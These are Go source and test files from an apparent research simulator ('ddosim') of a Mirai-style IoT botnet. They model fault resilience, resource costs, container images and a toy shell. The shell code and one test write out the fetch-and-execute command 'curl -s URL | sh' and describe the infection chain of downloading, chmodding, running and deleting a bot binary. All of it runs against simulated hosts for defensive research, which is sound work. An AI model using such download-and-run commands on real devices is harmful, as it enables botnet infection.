		FlowsDir: filepath.Join(dir, "flows"),
		TSDir:    filepath.Join(dir, "ts"),
		Window:   Window(2),
	}
	rows, err := Table1(opt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) == 0 {
		t.Fatal("no rows")
	}
	flows, err := os.ReadFile(filepath.Join(opt.FlowsDir, "table1-d20-s1.flows.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(flows), obs.FlowCSVHeader+"\n") {
		t.Fatalf("flow csv header = %q", strings.SplitN(string(flows), "\n", 2)[0])
	}
	if !strings.Contains(string(flows), ",attack,") {
		t.Fatal("flow dataset carries no attack-labeled rows")
	}
	ts, err := os.ReadFile(filepath.Join(opt.TSDir, "table1-d20-s1.ts.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(ts), "window_start_s,infected,") {
		t.Fatalf("ts csv header = %q", strings.SplitN(string(ts), "\n", 2)[0])
	}
	// A 2 s window over the 600 s horizon yields ~300 rows.
	if n := strings.Count(string(ts), "\n"); n < 250 || n > 350 {
		t.Fatalf("ts row count = %d, want ~300 (2s windows)", n)
	}
}

func TestFig4QuickAgreement(t *testing.T) {
	rows, err := Fig4(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.DDoSimKbps <= 0 || r.HardwareKbps <= 0 {
			t.Fatalf("devs=%d: empty measurement %+v", r.Devs, r)
		}
		if math.Abs(r.RelativeError) > 0.25 {
			t.Fatalf("devs=%d: substrates diverge by %.0f%%", r.Devs, 100*r.RelativeError)
		}
	}
	// Both curves increase with Devs.
	for i := 1; i < len(rows); i++ {
		if rows[i].DDoSimKbps <= rows[i-1].DDoSimKbps || rows[i].HardwareKbps <= rows[i-1].HardwareKbps {
			t.Fatalf("validation curves not increasing: %+v vs %+v", rows[i-1], rows[i])
		}
	}
	if RenderFig4(rows) == "" {
		t.Fatal("empty render")
	}
}

func TestResilienceQuick(t *testing.T) {
	rows, err := Resilience(quickOpt)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	if rows[0].Intensity != 0 || rows[2].Intensity != 1 {
		t.Fatalf("intensity endpoints = %v, %v", rows[0].Intensity, rows[2].Intensity)
	}
	// Intensity 0 must be a genuinely fault-free run.
	if rows[0].FaultEvents != 0 {
		t.Fatalf("faults injected at intensity 0: %v", rows[0].FaultEvents)
	}
	if rows[2].FaultEvents == 0 {
		t.Fatal("no faults injected at intensity 1")
	}
	// The attack degrades under faults…
	if rows[0].DReceivedKbps <= 0 {
		t.Fatalf("fault-free D_received = %v", rows[0].DReceivedKbps)
	}
	if rows[2].DReceivedKbps >= rows[0].DReceivedKbps {
		t.Fatalf("D_received did not degrade: %v (x=1) vs %v (x=0)",
			rows[2].DReceivedKbps, rows[0].DReceivedKbps)
	}
	// …while recruitment holds up, recovered by the loader's backoff
	// re-dials (which faults force into action).
	if rows[0].InfectionRate != 1.0 {
		t.Fatalf("fault-free infection rate = %v", rows[0].InfectionRate)
	}
	if rows[2].InfectionRate < 0.5 {
		t.Fatalf("infection rate collapsed under faults: %v", rows[2].InfectionRate)
	}
	if rows[2].LoaderRedials == 0 {
		t.Fatal("harsh scenario never exercised the loader's re-dial path")
	}
	out := RenderResilience(rows)
	if !strings.Contains(out, "intensity") || !strings.Contains(out, "loader redials") {
		t.Fatalf("render = %q", out)
	}
}
