package experiments

import (
	"fmt"
	"runtime"
	"sync"
)

// parallelMap evaluates fn for every index in [0, jobs) across a
// worker pool and returns the results in index order. Simulations are
// self-contained and seed-deterministic, so concurrent evaluation
// cannot change any result — only the wall-clock of a sweep.
func parallelMap[T any](jobs int, fn func(i int) (T, error)) ([]T, error) {
	if jobs <= 0 {
		return nil, nil
	}
	workers := runtime.NumCPU()
	if workers > jobs {
		workers = jobs
	}
	if workers < 1 {
		workers = 1
	}

	results := make([]T, jobs)
	errs := make([]error, jobs)
	var wg sync.WaitGroup
	next := make(chan int)

	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				results[i], errs[i] = fn(i)
			}
		}()
	}
	for i := 0; i < jobs; i++ {
		next <- i
	}
	close(next)
	wg.Wait()

	for i, err := range errs {
		if err != nil {
			return nil, fmt.Errorf("experiments: job %d: %w", i, err)
		}
	}
	return results, nil
}
