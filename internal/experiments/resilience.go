package experiments

import (
	"fmt"
	"strings"

	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/sim"
)

// ResilienceRow is one point of the fault-intensity sweep.
type ResilienceRow struct {
	Intensity       float64
	DReceivedKbps   float64
	InfectionRate   float64
	MeanRecruitSecs float64
	// FaultEvents is the mean number of injected faults per run, and
	// LoaderRedials the mean number of backoff retries plus re-loads of
	// crashed bots — the robustness response the sweep is exercising.
	FaultEvents   float64
	LoaderRedials float64
}

// Resilience sweeps the canonical fault scenario (faults.AtIntensity)
// over the credentials-vector botnet: as flaps, loss bursts, crashes,
// and C&C outages intensify, the received rate degrades, while the
// loader's re-dial backoff keeps recruitment near-complete far longer
// than a single-shot loader would.
func Resilience(opt Options) ([]ResilienceRow, error) {
	devs := 30
	intensities := []float64{0, 0.25, 0.5, 0.75, 1.0}
	if opt.Quick {
		devs = 15
		intensities = []float64{0, 0.5, 1.0}
	}
	return parallelMap(len(intensities), func(i int) (ResilienceRow, error) {
		x := intensities[i]
		var dSum, rateSum, timeSum, faultSum, retrySum float64
		timed := 0
		for _, seed := range opt.seeds() {
			cfg := core.DefaultConfig(devs)
			opt.apply(&cfg)
			cfg.Seed = seed
			cfg.Vector = core.VectorCredentials
			cfg.SimDuration = 900 * sim.Second
			cfg.RecruitTimeout = 600 * sim.Second
			cfg.ScanPeriod = sim.Second
			cfg.AttackDuration = 60
			cfg.Faults = faults.AtIntensity(x)
			s, err := core.New(cfg)
			if err != nil {
				return ResilienceRow{}, fmt.Errorf("resilience x=%v: %w", x, err)
			}
			r, err := s.Run()
			if err != nil {
				return ResilienceRow{}, fmt.Errorf("resilience x=%v: %w", x, err)
			}
			if err := opt.dumpObs(fmt.Sprintf("resilience-x%03d-s%d", int(x*100), seed), s); err != nil {
				return ResilienceRow{}, err
			}
			dSum += r.DReceivedKbps
			rateSum += r.InfectionRate()
			if mean, ok := r.MeanPhaseSecs("recruit"); ok {
				timeSum += mean
				timed++
			}
			if r.Faults != nil {
				faultSum += float64(r.Faults.Total())
			}
			if l := s.Loader(); l != nil {
				retrySum += float64(l.Retries + l.Reloads)
			}
		}
		n := float64(len(opt.seeds()))
		row := ResilienceRow{
			Intensity:     x,
			DReceivedKbps: dSum / n,
			InfectionRate: rateSum / n,
			FaultEvents:   faultSum / n,
			LoaderRedials: retrySum / n,
		}
		if timed > 0 {
			row.MeanRecruitSecs = timeSum / float64(timed)
		}
		return row, nil
	})
}

// RenderResilience prints the sweep.
func RenderResilience(rows []ResilienceRow) string {
	var b strings.Builder
	b.WriteString("Resilience: botnet performance vs fault-injection intensity (credentials vector)\n")
	fmt.Fprintf(&b, "%-10s %14s %15s %18s %12s %14s\n",
		"intensity", "D_recv (kbps)", "infection rate", "mean recruit (s)", "faults/run", "loader redials")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-10.2f %14.1f %14.0f%% %18.1f %12.1f %14.1f\n",
			r.Intensity, r.DReceivedKbps, 100*r.InfectionRate, r.MeanRecruitSecs,
			r.FaultEvents, r.LoaderRedials)
	}
	return b.String()
}
