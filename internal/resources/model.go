// Package resources converts measured simulation counters into the
// host-resource estimates of Table I (memory in the pre-attack and
// attack phases, and the inflated wall-clock attack time).
//
// Substitution note (see DESIGN.md §1): the paper measures a real
// laptop running Docker+NS-3. We cannot reproduce that hardware, so
// this package is an explicit cost model calibrated against Table I's
// published points. Its *inputs* are honest measurements from the run
// (container bytes, frames transmitted, peak queue occupancy); only
// the constants mapping them to gigabytes and seconds are calibrated.
package resources

import "fmt"

// Calibration constants, fitted to Table I. Kept together so an
// ablation can perturb them.
const (
	// baseVMBytes is the idle Ubuntu guest plus the NS-3 process
	// before any Dev containers exist.
	baseVMBytes = 150e6

	// perDevBridgeBytes covers the veth pair, TapBridge, and ghost
	// node NS-3 allocates per attached container.
	perDevBridgeBytes = 1.6e6

	// traceBytesPerFrame is the per-frame cost of NS-3 event storage
	// and packet capture during the attack phase; it dominates Attack
	// Mem for large fleets (130 Devs: +1.79 GB in the paper).
	traceBytesPerFrame = 980

	// bufferedFrameBytes is the resident cost of a frame sitting in a
	// device queue at the attack peak.
	bufferedFrameBytes = 2048

	// slowdownLinear and slowdownQuad map the attack-phase frame rate
	// (frames per simulated second) to the host slowdown factor of
	// Table I's Attack Time column: the emulation host queues tasks,
	// so wall-clock time exceeds simulated time super-linearly.
	slowdownLinear = 7.6e-5
	slowdownQuad   = 2.3e-9
)

// Snapshot captures the measurable state at one instant of a run.
type Snapshot struct {
	// ContainerBytes is the runtime's total container memory
	// (Engine.TotalMemBytes).
	ContainerBytes int
	// TxFrames is the cumulative frames transmitted network-wide.
	TxFrames uint64
	// EventsProcessed is the scheduler's cumulative event count.
	EventsProcessed uint64
	// PeakQueued is the network-wide peak of simultaneously buffered
	// frames so far.
	PeakQueued int
}

// Inputs couples the pre-attack and post-attack snapshots.
type Inputs struct {
	// Devs is the fleet size.
	Devs int
	// PreAttack is sampled after initialization, before the attack
	// command (the paper's "Pre-attack Mem" instant).
	PreAttack Snapshot
	// PostAttack is sampled once the flood ends.
	PostAttack Snapshot
	// CommandedSecs is the ordered attack duration n.
	CommandedSecs float64
}

// Usage is the Table I row the model produces.
type Usage struct {
	// PreAttackMemGB and AttackMemGB correspond to the table's two
	// memory columns (decimal GB, as the paper reports).
	PreAttackMemGB float64
	AttackMemGB    float64
	// AttackTimeSecs is the estimated wall-clock attack time.
	AttackTimeSecs float64
}

// AttackTimeMMSS renders the attack time in the paper's m:ss format.
func (u Usage) AttackTimeMMSS() string {
	total := int(u.AttackTimeSecs + 0.5)
	return fmt.Sprintf("%d:%02d", total/60, total%60)
}

// Estimate computes the Table I row for a run.
func Estimate(in Inputs) Usage {
	preMem := baseVMBytes +
		float64(in.PreAttack.ContainerBytes) +
		float64(in.Devs)*perDevBridgeBytes

	attackFrames := float64(in.PostAttack.TxFrames - in.PreAttack.TxFrames)
	attackMem := preMem +
		float64(in.PostAttack.ContainerBytes-in.PreAttack.ContainerBytes) +
		attackFrames*traceBytesPerFrame +
		float64(in.PostAttack.PeakQueued)*bufferedFrameBytes

	frameRate := 0.0
	if in.CommandedSecs > 0 {
		frameRate = attackFrames / in.CommandedSecs
	}
	slowdown := 1 + slowdownLinear*frameRate + slowdownQuad*frameRate*frameRate
	return Usage{
		PreAttackMemGB: preMem / 1e9,
		AttackMemGB:    attackMem / 1e9,
		AttackTimeSecs: in.CommandedSecs * slowdown,
	}
}
