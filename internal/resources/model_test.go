package resources

import (
	"testing"
	"testing/quick"
)

// framesFor approximates the attack-phase frames a fleet generates:
// ~70 pps per Dev at the average 300 kbps with 554-byte frames, two
// hops each.
func framesFor(devs int, secs float64) uint64 {
	return uint64(float64(devs) * 140 * secs)
}

func inputsFor(devs int) Inputs {
	return Inputs{
		Devs: devs,
		PreAttack: Snapshot{
			ContainerBytes: devs * 7_000_000, // ~7 MB per Dev container
		},
		PostAttack: Snapshot{
			ContainerBytes: devs * 7_000_000,
			TxFrames:       framesFor(devs, 100),
			PeakQueued:     100 + devs,
		},
		CommandedSecs: 100,
	}
}

func TestTableIShape(t *testing.T) {
	// The calibrated model must reproduce Table I's shape: memory and
	// attack time grow with Devs; attack memory exceeds pre-attack
	// memory; attack time exceeds the commanded 100 s.
	var prev Usage
	for i, devs := range []int{20, 40, 70, 100, 130} {
		u := Estimate(inputsFor(devs))
		if u.AttackMemGB <= u.PreAttackMemGB {
			t.Fatalf("devs=%d: attack mem %.2f <= pre-attack %.2f", devs, u.AttackMemGB, u.PreAttackMemGB)
		}
		if u.AttackTimeSecs <= 100 {
			t.Fatalf("devs=%d: attack time %.0fs not inflated past 100s", devs, u.AttackTimeSecs)
		}
		if i > 0 {
			if u.PreAttackMemGB <= prev.PreAttackMemGB ||
				u.AttackMemGB <= prev.AttackMemGB ||
				u.AttackTimeSecs <= prev.AttackTimeSecs {
				t.Fatalf("devs=%d: columns not monotone: %+v vs %+v", devs, u, prev)
			}
		}
		prev = u
	}
}

func TestTableIBallpark(t *testing.T) {
	// Within loose factors of the published endpoints.
	u20 := Estimate(inputsFor(20))
	if u20.PreAttackMemGB < 0.2 || u20.PreAttackMemGB > 0.7 {
		t.Fatalf("20 devs pre-attack = %.2f GB, want ~0.38", u20.PreAttackMemGB)
	}
	if u20.AttackTimeSecs < 100 || u20.AttackTimeSecs > 200 {
		t.Fatalf("20 devs attack time = %.0f s, want ~123", u20.AttackTimeSecs)
	}
	u130 := Estimate(inputsFor(130))
	if u130.PreAttackMemGB < 0.8 || u130.PreAttackMemGB > 2.0 {
		t.Fatalf("130 devs pre-attack = %.2f GB, want ~1.32", u130.PreAttackMemGB)
	}
	if u130.AttackMemGB < 2.0 || u130.AttackMemGB > 4.5 {
		t.Fatalf("130 devs attack mem = %.2f GB, want ~3.11", u130.AttackMemGB)
	}
	if u130.AttackTimeSecs < 200 || u130.AttackTimeSecs > 420 {
		t.Fatalf("130 devs attack time = %.0f s, want ~314", u130.AttackTimeSecs)
	}
}

func TestAttackTimeMMSS(t *testing.T) {
	u := Usage{AttackTimeSecs: 123}
	if got := u.AttackTimeMMSS(); got != "2:03" {
		t.Fatalf("m:ss = %q", got)
	}
	u = Usage{AttackTimeSecs: 314}
	if got := u.AttackTimeMMSS(); got != "5:14" {
		t.Fatalf("m:ss = %q", got)
	}
	u = Usage{AttackTimeSecs: 59.6}
	if got := u.AttackTimeMMSS(); got != "1:00" {
		t.Fatalf("rounding: %q", got)
	}
}

func TestZeroCommandedSecs(t *testing.T) {
	in := inputsFor(10)
	in.CommandedSecs = 0
	u := Estimate(in)
	if u.AttackTimeSecs != 0 {
		t.Fatalf("attack time = %v with zero duration", u.AttackTimeSecs)
	}
}

// Property: more attack frames never decrease attack memory or attack
// time.
func TestPropertyMonotoneInFrames(t *testing.T) {
	f := func(frames uint32, extra uint16) bool {
		a := inputsFor(50)
		a.PostAttack.TxFrames = uint64(frames)
		b := a
		b.PostAttack.TxFrames = uint64(frames) + uint64(extra)
		ua, ub := Estimate(a), Estimate(b)
		return ub.AttackMemGB >= ua.AttackMemGB && ub.AttackTimeSecs >= ua.AttackTimeSecs
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
