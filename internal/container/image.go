package container

import (
	"fmt"
	"sort"
	"strings"

	"ddosim/internal/procvm"
)

// Image is a container image: a filesystem snapshot, an entrypoint,
// and optionally the procvm program of the network-facing daemon the
// image exists to run.
type Image struct {
	// Name and Tag identify the image, e.g. "ddosim/dev-connman:1.34".
	Name string
	Tag  string
	// Arch is the instruction-set the image was built for. Docker
	// Buildx in the paper produces per-arch Dev images; BuildMultiArch
	// does the same here.
	Arch string
	// Files is the image filesystem; ExecPaths marks executables.
	Files     map[string][]byte
	ExecPaths map[string]bool
	// Entrypoint is the command started when a container boots.
	Entrypoint []string
	// Program is the binary image of the daemon for procvm-backed
	// behaviours; attackers analyze it to build ROP chains.
	Program *procvm.Program
	// ExtraBytes models image weight beyond Files (shared libraries,
	// busybox, etc.) for the Table I memory model.
	ExtraBytes int
}

// Ref renders name:tag.
func (im *Image) Ref() string { return im.Name + ":" + im.Tag }

// SortedPaths returns the image's file paths in sorted order — the
// iteration order every consumer that materializes or rewrites the
// filesystem must use, so container builds stay deterministic.
func (im *Image) SortedPaths() []string {
	out := make([]string, 0, len(im.Files))
	for p := range im.Files { //simlint:allow maporder(collect-then-sort: keys are sorted before use)
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// SizeBytes reports the image's total size.
func (im *Image) SizeBytes() int {
	n := im.ExtraBytes
	for _, data := range im.Files {
		n += len(data)
	}
	return n
}

// Clone deep-copies the image (Buildx uses this for per-arch builds).
func (im *Image) Clone() *Image {
	cp := *im
	cp.Files = make(map[string][]byte, len(im.Files))
	//simlint:allow maporder(pure deep copy; each entry is written independently)
	for p, d := range im.Files {
		cp.Files[p] = append([]byte(nil), d...)
	}
	cp.ExecPaths = make(map[string]bool, len(im.ExecPaths))
	for p, x := range im.ExecPaths {
		cp.ExecPaths[p] = x
	}
	cp.Entrypoint = append([]string(nil), im.Entrypoint...)
	return &cp
}

// BinaryContent renders the canonical content of a simulated compiled
// binary. The shell's exec path parses this tag to select the
// registered behaviour, and refuses to run a binary whose arch does
// not match the container — the reason Mirai's loader must download
// the arch-matching build.
func BinaryContent(name, arch string) []byte {
	return []byte("ELF:" + name + ":" + arch)
}

// ParseBinary inverts BinaryContent. ok=false means the file is not a
// recognized executable format.
func ParseBinary(data []byte) (name, arch string, ok bool) {
	s := string(data)
	if !strings.HasPrefix(s, "ELF:") {
		return "", "", false
	}
	head, _, _ := strings.Cut(s, "\n")
	parts := strings.Split(head, ":")
	if len(parts) != 3 || parts[1] == "" || parts[2] == "" {
		return "", "", false
	}
	return parts[1], parts[2], true
}

// BuildMultiArch is the Docker Buildx substitute: it produces one
// image per requested architecture, rewriting every simulated binary
// in the filesystem for that arch.
func BuildMultiArch(base *Image, archs []string) (map[string]*Image, error) {
	if len(archs) == 0 {
		return nil, fmt.Errorf("container: buildx: no architectures requested")
	}
	out := make(map[string]*Image, len(archs))
	for _, arch := range archs {
		img := base.Clone()
		img.Arch = arch
		img.Tag = base.Tag + "-" + arch
		for _, path := range img.SortedPaths() {
			if name, _, ok := ParseBinary(img.Files[path]); ok {
				img.Files[path] = BinaryContent(name, arch)
			}
		}
		if img.Program != nil {
			prog := *img.Program
			prog.Arch = arch
			img.Program = &prog
		}
		out[arch] = img
	}
	return out, nil
}
