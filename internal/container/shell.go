package container

import (
	"fmt"
	"strings"

	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// The shell is the minimal busybox-style interpreter the infection
// chain needs. The paper's ROP payload runs
//   sh -c "curl -s ShellScript_URL | sh"
// and the downloaded script then curls the arch-specific Mirai binary,
// chmods it, runs it, and removes it. Commands execute asynchronously
// against simulated time: curl performs a real HTTP GET over the
// simulated network, so a slow 100 kbps Dev link genuinely delays
// infection.
//
// Supported: curl [-s] URL [-o FILE] [| sh], chmod +x FILE, rm [-f]
// FILE, echo ..., sleep SECS, `#` comments, `$(uname -m)` / $ARCH
// substitution, and execution of filesystem binaries (trailing `&`
// tolerated). Any failing command aborts the script, as with set -e.

// shellJob is one running script.
type shellJob struct {
	c      *Container
	lines  []string
	idx    int
	onDone func(error)
	depth  int
}

const maxShellDepth = 8

// RunShell interprets script inside the container. onDone (optional)
// fires once, with nil on success or the first command error.
func (c *Container) RunShell(script string, onDone func(error)) {
	c.engine.ctrShellExecs.Inc()
	c.runShellDepth(script, onDone, 0)
}

func (c *Container) runShellDepth(script string, onDone func(error), depth int) {
	job := &shellJob{c: c, onDone: onDone, depth: depth}
	for _, line := range strings.Split(script, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		job.lines = append(job.lines, line)
	}
	if depth > maxShellDepth {
		job.finish(fmt.Errorf("container: shell recursion limit exceeded"))
		return
	}
	// Begin asynchronously so callers never observe re-entrant
	// completion. Scheduled on the container's own node scheduler so a
	// script started by a Dev-side exploit stays on the Dev's shard.
	c.node.Sched().ScheduleSrc(0, "container.shell", job.step)
}

func (j *shellJob) finish(err error) {
	if j.onDone != nil {
		cb := j.onDone
		j.onDone = nil
		cb(err)
	}
}

// step runs the next line; async commands re-enter step from their
// completion callbacks.
func (j *shellJob) step() {
	if !j.c.running {
		j.finish(fmt.Errorf("container %s: stopped", j.c.name))
		return
	}
	if j.idx >= len(j.lines) {
		j.finish(nil)
		return
	}
	line := j.lines[j.idx]
	j.idx++
	j.exec(line, func(err error) {
		if err != nil {
			j.c.logf("sh: %s: %v", line, err)
			j.finish(err)
			return
		}
		j.step()
	})
}

// exec interprets one command line and calls next exactly once.
func (j *shellJob) exec(line string, next func(error)) {
	line = j.substitute(line)

	// One pipe form is supported: `curl ... | sh`.
	if lhs, rhs, piped := strings.Cut(line, "|"); piped && strings.TrimSpace(rhs) == "sh" {
		fields := strings.Fields(lhs)
		if len(fields) == 0 || fields[0] != "curl" {
			next(fmt.Errorf("unsupported pipeline %q", line))
			return
		}
		if j.c.removedCommands[fields[0]] {
			next(fmt.Errorf("sh: %s: not found", fields[0]))
			return
		}
		j.curl(fields[1:], func(body []byte, err error) {
			if err != nil {
				next(err)
				return
			}
			j.c.runShellDepth(string(body), next, j.depth+1)
		})
		return
	}

	fields := strings.Fields(strings.TrimSuffix(line, "&"))
	if len(fields) == 0 {
		next(nil)
		return
	}
	if j.c.removedCommands[fields[0]] {
		// §IV-C insight: firmware vendors can simply not ship curl
		// and friends, severing the download stage of the infection.
		next(fmt.Errorf("sh: %s: not found", fields[0]))
		return
	}
	switch fields[0] {
	case "curl", "wget":
		j.curl(fields[1:], func(body []byte, err error) { next(err) })
	case "chmod":
		next(j.chmod(fields[1:]))
	case "rm":
		next(j.rm(fields[1:]))
	case "echo", ":", "true":
		next(nil)
	case "sleep":
		j.sleep(fields[1:], next)
	default:
		// A path: execute it as a binary.
		if _, err := j.c.ExecFile(fields[0], fields[1:]); err != nil {
			next(err)
			return
		}
		next(nil)
	}
}

// substitute expands the tiny set of constructs the infection scripts
// use.
func (j *shellJob) substitute(line string) string {
	line = strings.ReplaceAll(line, "$(uname -m)", j.c.arch)
	line = strings.ReplaceAll(line, "${ARCH}", j.c.arch)
	line = strings.ReplaceAll(line, "$ARCH", j.c.arch)
	return line
}

// curl fetches a URL; with -o FILE the body lands in the filesystem
// and cb receives nil bytes.
func (j *shellJob) curl(args []string, cb func([]byte, error)) {
	var url, outFile string
	for i := 0; i < len(args); i++ {
		switch a := args[i]; {
		case a == "-s" || a == "-q" || a == "-f":
			// Quiet/fail flags: no-ops here.
		case a == "-o" || a == "-O":
			if i+1 >= len(args) {
				cb(nil, fmt.Errorf("curl: -o needs a file"))
				return
			}
			i++
			outFile = args[i]
		case strings.HasPrefix(a, "-"):
			// Ignore other flags.
		default:
			url = a
		}
	}
	if url == "" {
		cb(nil, fmt.Errorf("curl: no URL"))
		return
	}
	shttp.Get(j.c.node, url, func(body []byte, err error) {
		if err != nil {
			cb(nil, fmt.Errorf("curl: %s: %w", url, err))
			return
		}
		if outFile != "" {
			j.c.fs.Write(outFile, body)
			cb(nil, nil)
			return
		}
		cb(body, nil)
	})
}

func (j *shellJob) chmod(args []string) error {
	if len(args) != 2 || args[0] != "+x" {
		return fmt.Errorf("chmod: usage: chmod +x FILE")
	}
	return j.c.fs.Chmod(args[1], true)
}

func (j *shellJob) rm(args []string) error {
	force := false
	var paths []string
	for _, a := range args {
		if a == "-f" || a == "-rf" {
			force = true
			continue
		}
		paths = append(paths, a)
	}
	for _, p := range paths {
		if err := j.c.fs.Remove(p); err != nil && !force {
			return err
		}
	}
	return nil
}

func (j *shellJob) sleep(args []string, next func(error)) {
	secs := 1.0
	if len(args) > 0 {
		if _, err := fmt.Sscanf(args[0], "%f", &secs); err != nil {
			next(fmt.Errorf("sleep: bad duration %q", args[0]))
			return
		}
	}
	j.c.node.Sched().Schedule(sim.Seconds(secs), func() { next(nil) })
}
