package container

import (
	"fmt"
	"math/rand"
	"net/netip"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Behavior is the code a simulated process runs. Behaviours are
// event-driven actors: Start registers sockets and timers on the
// process; Stop (called on kill) must release anything Start acquired
// beyond what the process tracks itself.
type Behavior interface {
	// Name is the process's initial command name (before any
	// setproctitle-style obfuscation).
	Name() string
	// Start begins execution. The behaviour keeps p for later use.
	Start(p *Process)
	// Stop is invoked when the process is killed or exits.
	Stop(p *Process)
}

// BehaviorFactory instantiates a behaviour for an exec'd binary.
// args[0] is the binary path.
type BehaviorFactory func(args []string) Behavior

// Process is one entry in a container's process table.
type Process struct {
	pid       int
	title     string
	behavior  Behavior
	container *Container
	alive     bool
	tags      map[string]string

	listeners  []*netsim.TCPListener
	udpSocks   []*netsim.UDPSocket
	conns      []*netsim.TCPConn
	tcpPorts   map[uint16]bool
	tickers    []*sim.Ticker
	exitStatus int
}

// PID reports the process id.
func (p *Process) PID() int { return p.pid }

// Title reports the current process title (Mirai obfuscates this).
func (p *Process) Title() string { return p.title }

// SetTitle changes the process title, mirroring prctl(PR_SET_NAME) /
// argv[0] overwriting.
func (p *Process) SetTitle(t string) { p.title = t }

// SetTag attaches metadata (e.g. malware family) visible to other
// processes in the container — the hook Mirai's rival-killing uses.
func (p *Process) SetTag(key, value string) { p.tags[key] = value }

// Tag reads metadata.
func (p *Process) Tag(key string) string { return p.tags[key] }

// Alive reports whether the process is running.
func (p *Process) Alive() bool { return p.alive }

// Container reports the owning container.
func (p *Process) Container() *Container { return p.container }

// Node reports the container's network attachment.
func (p *Process) Node() *netsim.Node { return p.container.node }

// Sched reports the scheduler driving this process — the container's
// network attachment's scheduler. In a single-scheduler run this is
// the engine scheduler; under the sharded kernel it is the shard the
// container's node lives on, which keeps every timer and callback a
// process registers on its own partition.
func (p *Process) Sched() *sim.Scheduler { return p.container.node.Sched() }

// RNG reports the deterministic random source.
func (p *Process) RNG() *rand.Rand { return p.Sched().RNG() }

// Logf appends to the container log.
func (p *Process) Logf(format string, args ...any) {
	p.container.logf("["+p.title+"] "+format, args...)
}

// ListenTCP opens a TCP listener owned by this process. Ownership is
// what lets Mirai find and kill whatever holds ports 22/23.
func (p *Process) ListenTCP(port uint16, accept func(*netsim.TCPConn)) (*netsim.TCPListener, error) {
	if !p.alive {
		return nil, fmt.Errorf("container: process %d is dead", p.pid)
	}
	l, err := p.Node().ListenTCP(port, accept)
	if err != nil {
		return nil, err
	}
	p.listeners = append(p.listeners, l)
	p.tcpPorts[port] = true
	return l, nil
}

// BindUDP opens a UDP socket owned by this process.
func (p *Process) BindUDP(port uint16, h netsim.DatagramHandler) (*netsim.UDPSocket, error) {
	if !p.alive {
		return nil, fmt.Errorf("container: process %d is dead", p.pid)
	}
	s, err := p.Node().BindUDP(port, h)
	if err != nil {
		return nil, err
	}
	p.udpSocks = append(p.udpSocks, s)
	return s, nil
}

// DialTCP opens an outbound connection owned by this process.
func (p *Process) DialTCP(dst netip.AddrPort, cb netsim.DialCallback) *netsim.TCPConn {
	c := p.Node().DialTCP(dst, cb)
	p.conns = append(p.conns, c)
	return c
}

// NewTicker creates a ticker owned by this process; it is stopped on
// process death.
func (p *Process) NewTicker(period sim.Time, fn func()) *sim.Ticker {
	t := sim.NewTicker(p.Sched(), period, fn)
	p.tickers = append(p.tickers, t)
	return t
}

// ActiveTickers counts the process's tickers that are currently armed.
// Tests use it to pin down timer-leak bugs (a behaviour that re-creates
// a ticker per session without stopping the old one accumulates them
// here).
func (p *Process) ActiveTickers() int {
	n := 0
	for _, t := range p.tickers {
		if t.Running() {
			n++
		}
	}
	return n
}

// HasTCPPort reports whether the process ever bound the given TCP
// port.
func (p *Process) HasTCPPort(port uint16) bool { return p.tcpPorts[port] }

// Exit terminates the process voluntarily.
func (p *Process) Exit(status int) {
	p.exitStatus = status
	p.container.reap(p)
}

// releaseResources closes everything the process owns.
func (p *Process) releaseResources() {
	for _, t := range p.tickers {
		t.Stop()
	}
	for _, l := range p.listeners {
		l.Close()
	}
	for _, s := range p.udpSocks {
		s.Close()
	}
	for _, c := range p.conns {
		c.Abort()
	}
	p.tickers = nil
	p.listeners = nil
	p.udpSocks = nil
	p.conns = nil
}
