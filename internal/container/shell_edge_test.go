package container

import (
	"strings"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

func TestShellRecursionLimit(t *testing.T) {
	// A script that curls itself: the nested-interpreter depth limit
	// must stop the loop.
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	fs := r.star.AttachHost("fs", 10*netsim.Mbps, sim.Millisecond, 0)
	srv, err := shttp.NewServer(fs, 80)
	if err != nil {
		t.Fatal(err)
	}
	url := "http://" + fs.Addr4().String() + "/loop.sh"
	srv.Handle("/loop.sh", []byte("curl -s "+url+" | sh\n"))

	var shellErr error
	done := false
	c.RunShell("curl -s "+url+" | sh", func(err error) { done, shellErr = true, err })
	if err := r.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done {
		t.Fatal("self-referential script never terminated")
	}
	if shellErr == nil || !strings.Contains(shellErr.Error(), "recursion") {
		t.Fatalf("err = %v, want recursion limit", shellErr)
	}
}

func TestShellAbortsWhenContainerStops(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	var shellErr error
	done := false
	c.RunShell("sleep 30\necho never", func(err error) { done, shellErr = true, err })
	r.sched.Schedule(5*sim.Second, c.Stop)
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done || shellErr == nil {
		t.Fatalf("script survived container stop: done=%v err=%v", done, shellErr)
	}
}

func TestShellCurlOutputFlagErrors(t *testing.T) {
	r := newRig(t)
